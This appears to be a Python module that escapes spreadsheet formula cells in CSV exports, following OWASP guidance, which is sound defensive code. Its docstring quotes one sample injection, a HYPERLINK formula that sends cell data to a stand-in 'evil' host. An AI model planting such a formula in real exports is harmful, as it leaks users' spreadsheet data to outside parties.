"""CSV files a person opens in a spreadsheet, written so no cell runs as a formula.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return) as a formula: a neighbourhood named
``=HYPERLINK("http://evil/?"&A1)`` would send the sheet's data away when clicked.
The OWASP rule: put an apostrophe in front of such a cell, so it is read as text.

Numbers stay numbers: ``int``, ``float`` and ``Decimal`` values are written as they
are, and so is text that is only a signed number or time (``-0.250``, ``+2:30``,
``−1:15``), which no spreadsheet can run.

Every CSV the project offers people goes through :func:`writer` (or :func:`csv_safe`
for a single cell). The HSDS datapackage export is not one of them: it is a data
feed other software reads back, where an apostrophe would change the data (a phone
number ``+44 …``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+\-\u2212]?\d+(?:[.:]\d+)*")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def csv_safe(value: Any) -> Any:
    """``value`` as a cell no spreadsheet will run: text that starts like a formula
    gets an apostrophe in front; numbers, and text that is only a number, are kept."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """A :func:`csv.writer` whose every cell goes through :func:`csv_safe`."""

    def __init__(self, file: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: _Writable, **kwargs: Any) -> SafeWriter:
    """Like :func:`csv.writer`, for files a person may open in a spreadsheet."""
    return SafeWriter(file, **kwargs)
